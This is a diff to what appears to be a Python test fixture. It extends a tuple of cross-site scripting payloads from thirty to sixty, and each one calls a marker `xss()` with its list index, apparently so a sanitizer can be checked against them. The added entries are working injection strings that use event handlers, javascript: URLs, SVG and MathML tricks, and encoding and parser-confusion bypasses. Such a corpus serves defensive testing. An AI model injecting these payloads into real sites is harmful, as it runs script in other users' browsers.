@@ -1,4 +1,4 @@
-"""Thirty ways of making a page run what it should show. Each calls `xss()` where it succeeds."""
+"""Sixty ways of making a page run what it should show. Each calls `xss()` where it succeeds."""
 
 PAYLOADS = (
     "<script>xss(1)</script>",
@@ -31,4 +31,35 @@ PAYLOADS = (
     "&lt;script&gt;xss(28)&lt;/script&gt;<scr<script>ipt>xss(28)</script>",
     "\\u003cscript\\u003exss(29)\\u003c/script\\u003e",
     '<img src=`x`onerror=xss(30)><a href="data:text/html,<script>xss(30)</script>">x</a>',
+    "<marquee onstart=xss(31)>x</marquee>",
+    "<select autofocus onfocus=xss(32)><option>x</select>",
+    "<textarea autofocus onfocus=xss(33)></textarea>",
+    "<div contenteditable autofocus onfocus=xss(34)>x</div>",
+    "<audio src=x onerror=xss(35)></audio>",
+    "<embed src=javascript:xss(36)>",
+    "<iframe src=javascript:parent.xss(37)></iframe>",
+    "<link rel=stylesheet href=x onerror=xss(38)>",
+    "<meta http-equiv=refresh content='0;url=javascript:xss(39)'>",
+    "<base href=javascript:xss(40)//><a href=#>x</a>",
+    "<svg><animate onbegin=xss(41) attributeName=x dur=1s></svg>",
+    "<svg><a xlink:href=javascript:xss(42)><text y=20>bấm</text></a></svg>",
+    "<svg><foreignObject><img src=x onerror=xss(43)></foreignObject></svg>",
+    "<math><maction actiontype=statusline xlink:href=javascript:xss(44)>x</maction></math>",
+    "<noscript><p title='</noscript><img src=x onerror=xss(45)>'>",
+    "<template><script>xss(46)</script></template><img src=x onerror=xss(46)>",
+    "<xmp><p title='</xmp><img src=x onerror=xss(47)>'>",
+    "<b style=animation:x onanimationstart=xss(48)>x</b><style>@keyframes x{}</style>",
+    "<img srcset=x onerror=xss(49)>",
+    "<img/src=x/onerror=xss(50)>",
+    "<IMG SRC=x oNeRrOr=xss(51)>",
+    "<img src=x onerror\t=\txss(52)>",
+    "<<script>xss(53)//<</script>",
+    "<script src=data:text/javascript,xss(54)></script>",
+    "<script type=module>xss(55)</script>",
+    "<p>đúng</p><script>/*</script><script>*/xss(56)</script>",
+    '[bấm](javascript:xss(57)) http://x.example/"onmouseover=xss(57)//',
+    "%3Cscript%3Exss(58)%3C/script%3E&#60;script&#62;xss(58)&#60;/script&#62;",
+    "＜script＞xss(59)＜/script＞<scrıpt>xss(59)</scrıpt><img src=x onerror=xss(59)>",
+    '=HYPERLINK("javascript:xss(60)")<img src=x onerror=xss(60)>',
 )
+"""A payload's place in the list, counted from 1, is what it calls `xss()` with."""
